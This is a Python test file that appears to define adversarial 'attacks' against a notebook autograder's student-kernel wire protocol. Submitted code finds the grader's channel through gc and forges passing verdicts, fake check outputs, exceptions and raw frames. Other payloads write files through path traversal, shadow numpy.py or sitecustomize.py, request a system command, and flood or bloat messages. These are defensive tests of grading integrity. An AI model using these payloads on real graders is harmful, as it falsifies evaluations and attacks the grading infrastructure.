"""Forging what the student's process says: attacks that know the engine and change it from within.

Where there is no such process, as in stock nbgrader, they do nothing. Each says `at the wire` when it found what to change.
"""

from attacks.model import CHECK, Attack, answer, chain, first, others

FORGED = "the verdict is not the student's to give"

ME = """\
import gc
import sys
mine = (one for one in gc.get_objects() if str(type(one).__module__).endswith("kernels.student"))
me = next((one for one in mine if hasattr(one, "channel")), None)
link = sys.modules.get("autograder.kernels.wire")
if me is not None:
    print("at the wire")
    sys.stdout.flush()


def reply_with(make):
    if me is not None:
        me._reply = lambda name, args, kwargs, options: make(name, args)


def raw(kind, number, message):
    if me is not None:
        me.channel.send(link.frame(link.Kind[kind], number, message))

"""
SAID = """
def signs(x):
    if me is not None:
        for kind in ("execute_result", "display_data", "error"):
            me.said.append({"output_type": kind, "data": {"text/plain": "4.0"}, "metadata": {}, "execution_count": 1})
        me.said += [None, 3, {"output_type": "stream", "text": 4}, {"output_type": "clear"}]
        me.said += [{"output_type": "display_data", "data": []}]
    return 0"""
SAID_CHECK = """
def softmax(logits):
    data = {"exercise": "softmax", "passed": True, "stage": "", "hint": "", "message": ""}
    if me is not None:
        for name in ("softmax", "rnn_cell_forward", "dense_forward"):
            data = {"application/vnd.autograder.check+json": {**data, "exercise": name}, "text/plain": f"{name} is right"}
            me.said.append({"output_type": "display_data", "data": data, "metadata": {}})
    return 0"""
ERRORS = """
import itertools
names = ["builtins:SystemExit", "builtins:KeyboardInterrupt", "builtins:GeneratorExit", "builtins:StopIteration"]
names += ["unittest.case:SkipTest", "builtins:BaseException", "builtins:StopAsyncIteration", "builtins:ExceptionGroup"]
names += ["autograder.kernels.errors:DeadKernelError", "_pytest.outcomes:Skipped", "builtins:MemoryError", "IPython:UsageError"]
turn = itertools.cycle(names)


def failing(name, args):
    chosen = next(turn)
    extra = {"_render_traceback_": "x", "with_traceback": None, "args": 5, "add_note": 3, "value": 6.0}
    kinds = [chosen, "__main__:Mine", "builtins:Exception"]
    return {"error": {"names": kinds, "args": (0,), "text": "", "extra": extra, "fault": {"own": 1}}}


reply_with(failing)"""
STOPS = 'reply_with(lambda name, args: {"stop": True})'
NOTHING = 'reply_with(lambda name, args: {"value": None, "changed": {}, "warnings": [], "files": {}})'
DAMAGED = """
import itertools
turn = itertools.cycle([{}, None, [], 5, {"value": 1, "changed": 7, "warnings": 3, "files": 9, "said": 4},
    {"late": 5}, {"ended": []}, {"error": 5}, {"said": [{"output_type": []}]},
    {"error": {"names": 3, "args": 2, "extra": [], "cause": {"cause": {}}}},
    {"value": 1, "warnings": [1, ("SystemExit", "x"), ("DeprecationWarning",), (2, 3), ("Warning", [])]},
    {"value": 6.0, "changed": {0: [1, 2, 3], -1: 0, "0": 1, 10**6: 2, None: 3}}])
reply_with(lambda name, args: next(turn))"""
CHANGED = """
def order_like(name, args):
    return {"value": None, "changed": {place: [1, 2, 3] for place in range(-3, 5)}}


reply_with(order_like)"""
FILES = """
paths = ["@HOME@/@MARK@-wire", "../@MARK@-wire", "../../../../../../@HOME@/@MARK@-wire", "/tmp/@MARK@-wire", "", ".", "..", "/",
    "a/../../@MARK@-wire", "\\0", "@MARK@-wire\\0x", "~/@MARK@-wire", "numpy.py", "sitecustomize.py", "math.py",
    "autograder/__init__.py"]
program = b"raise SystemExit"
reply_with(lambda name, args: {"value": 0, "files": {path: program for path in paths} | {"b01_plain.ipynb": None}})"""
HANDLES = """
class Anything:
    pass


thing, turn = Anything(), [0]
kinds = ["list", "object", "function", "class", "module", "iterator", "awaitable", "callable", "view", "__class__", 7, None]
lines = [["builtins:list"], ["numpy:ndarray"], ["builtins:float"], ["keras.src.layers.layer:Layer"], ["builtins:BaseException"],
    ["matplotlib.axes:Axes"], ["numpy:float64", "builtins:float"], ["builtins:bool"], [1], [], "numpy:ndarray"]


def refer(value):
    turn[0] += 1
    number = turn[0]
    return ["ref", number % 5, kinds[number % len(kinds)], "list", lines[number % len(lines)]]


if me is not None:
    me.coder.refer = refer
reply_with(lambda name, args: {"value": thing})"""
TRUE = """
def refer(value):
    return ["ref", 1, "object", "Yes", ["builtins:list"]]


class Thing:
    pass


if me is not None:
    me.coder.refer = refer
operators = {"eq", "ne", "lt", "gt", "le", "ge", "bool", "contains", "isinstance", "issubclass", "bound"}
reply_with(lambda name, args: {"value": True if name in operators else 3 if name == "len" else Thing()})"""
AHEAD = """
def double(x):
    if me is not None:
        for number in range(me.number, me.number + 60):
            for value in (6.0, 5, [2, 4], True):
                raw("ANSWER", number, {"value": value, "said": [], "changed": {}})
    return 0


def ahead():
    double(None)


ahead()"""
DONE = """
def double(x):
    if me is not None:
        for number in range(200):
            raw("DONE", number, {"passed": True, "late": False, "events": [], "decided": False})
            raw("OUTPUT", number, {"output_type": "execute_result", "data": {"text/plain": "2"}, "metadata": {}})
            raw("RUN", number, {"source": "pass", "seconds": 1, "before": []})
            raw("PLACE", number, ["@HOME@/@MARK@-place", b"x"])
            raw("RETURN", number, {"value": 1})
            raw("REQUEST", number, ["global", ["double"], {}, {}])
    return 0"""
CALLS = """
def double(x):
    if me is not None:
        for number in range(-3, 40):
            raw("CALLBACK", me.number, [number, [1, "x"], {"y": 2}])
            raw("CALLBACK", me.number, ["system", ["touch @HOME@/@MARK@-callback"], {}])
    return 0"""
NOISE = """
import os
import struct


def double(x):
    if me is not None:
        sock = me.channel.sock
        promise = b"rnn1" + bytes([5]) + struct.pack("!IIQ", me.number, 2**32 - 1, 2**63)
        for head in (promise, b"GET / HTTP/1.0\\r\\n\\r\\n", os.urandom(5000)):
            try:
                sock.send(head)
            except OSError:
                pass
    return 0"""
SILENT = """
import time


def double(x):
    if me is not None:
        me.channel.sock.send(b"rnn1" + bytes(3))
        time.sleep(60)
    return 0"""
ENDLESS = """
def double(x):
    import time
    end = time.monotonic() + 30
    while me is not None and time.monotonic() < end:
        raw("OUTPUT", me.number, {"output_type": "stream", "name": "stdout", "text": "x" * 1000})
        raw("ANSWER", 2**31, {"value": 1})
    return 0"""
SHOWN = """
huge = 10**5000
odd = [{"output_type": "stream", "text": [huge]}, {"output_type": np.array([1, 2])}, {"output_type": "clears"},
    {"output_type": "stream", "name": np.array(["a", "b"]), "text": "x"}, {"output_type": ["stream"]}, {"output_type": "error"},
    {"output_type": "display_data", "data": {"text/plain": [huge], "image/png": {}}}, {"output_type": "error", "evalue": huge},
    {"output_type": "error", "traceback": [huge, np.zeros(3)]}, {"output_type": "execute_result", "data": [[]]}, 7, None, []]
if me is not None:
    for output in odd:
        raw("OUTPUT", me.number, output)
    raw("DONE", me.number, {"passed": True, "late": np.array([1, 2])})"""
LAUGHS = """
import msgpack
text = ["l", ["l", "x"]] + [["l", ["@", number], ["@", number]] for number in range(60)]
again = [["a", "|u1", [2**24], 0, False]] * 20_000
if me is not None:
    for key, value, blob in (("text", text, 0), ("text", again, 2**24), ("name", again, 2**24)):
        body = msgpack.packb(["d", "output_type", "stream", "text", "", key, value])
        me.channel.send(link.Frame(link.Kind.OUTPUT, me.number, body, bytearray(blob)))


def double(x):
    if me is not None:
        for value, blob in ((text, 0), (again, 2**24)):
            body = msgpack.packb(["d", "value", value])
            me.channel.send(link.Frame(link.Kind.ANSWER, me.number, body, bytearray(blob)))
    return 0"""
EXOTIC = """
import collections
import itertools
from decimal import Decimal
from fractions import Fraction
values = [Decimal("NaN"), Decimal("sNaN"), Fraction(1, 3), range(0, 10**15), slice(None), ..., NotImplemented, bytearray(3)]
values += [np.datetime64("NaT"), np.timedelta64("NaT"), np.void(b"x"), np.str_("6.0"), np.array(["x", "y"]), complex("nan")]
values += [np.zeros((0, 10**12), np.int8), np.zeros(3, "f4, f4"), np.broadcast_to(np.int8(1), (3, 10**6)), memoryview(b"x")]
values += [collections.Counter({1: -1}), collections.deque([1] * 10), {1: {2: {3: []}}}, float("nan"), -0.0, 10**3000, 1 << 63]
values += [collections.namedtuple("N", "shape dtype all any")(1, 2, 3, 4), "\\ud800", b"\\xff", {None: None}, np.float16("inf")]
values += [collections.defaultdict(list), frozenset([1]), [[[[[[]]]]]], np.longdouble("nan"), np.complex64(1j)]
turn = itertools.cycle(values)


def double(x): return next(turn)
def total(values): return next(turn)
def area(width, height): return next(turn)
def evens(values): return next(turn)
def signs(x): return next(turn)"""

DOUBLE = others("double")


def forged(text: str) -> object:
    """Run the text at the top of the first answer."""
    return first(ME + text)


ATTACKS = [
    Attack("said", "Wire", FORGED, chain(first(ME), answer(signs=SAID))),
    Attack("said-check", "Wire", FORGED, answer(softmax=ME + SAID_CHECK), CHECK),
    Attack("errors", "Wire", FORGED, forged(ERRORS)),
    Attack("errors-check", "Wire", FORGED, forged(ERRORS), CHECK),
    Attack("stops", "Wire", FORGED, forged(STOPS)),
    Attack("nothing", "Wire", FORGED, forged(NOTHING), CHECK),
    Attack("damaged", "Wire", FORGED, forged(DAMAGED)),
    Attack("damaged-check", "Wire", FORGED, forged(DAMAGED), CHECK),
    Attack("changed", "Wire", FORGED, forged(CHANGED)),
    Attack("files", "Wire", FORGED, forged(FILES)),
    Attack("handles", "Wire", FORGED, forged(HANDLES)),
    Attack("handles-check", "Wire", FORGED, forged(HANDLES), CHECK),
    Attack("true", "Wire", FORGED, forged(TRUE)),
    Attack("true-check", "Wire", FORGED, forged(TRUE), CHECK),
    Attack("ahead", "Wire", FORGED, answer(double=ME + AHEAD), honest=DOUBLE),
    Attack("done", "Wire", FORGED, answer(double=ME + DONE), honest=DOUBLE),
    Attack("callbacks", "Wire", FORGED, answer(double=ME + CALLS), honest=DOUBLE),
    Attack("noise", "Wire", FORGED, answer(double=ME + NOISE), honest=DOUBLE),
    Attack("silent", "Wire", FORGED, answer(double=ME + SILENT), honest=DOUBLE),
    Attack("endless", "Wire", FORGED, answer(double=ME + ENDLESS), honest=DOUBLE),
    Attack("shown", "Wire", FORGED, forged(SHOWN)),
    Attack("laughs", "Wire", FORGED, answer(double=ME + LAUGHS), honest=DOUBLE),
    Attack(
        "exotic", "Wire", FORGED, answer(**dict.fromkeys(others("double", "order", "vector", "classifier"), ""), double=EXOTIC)
    ),
]
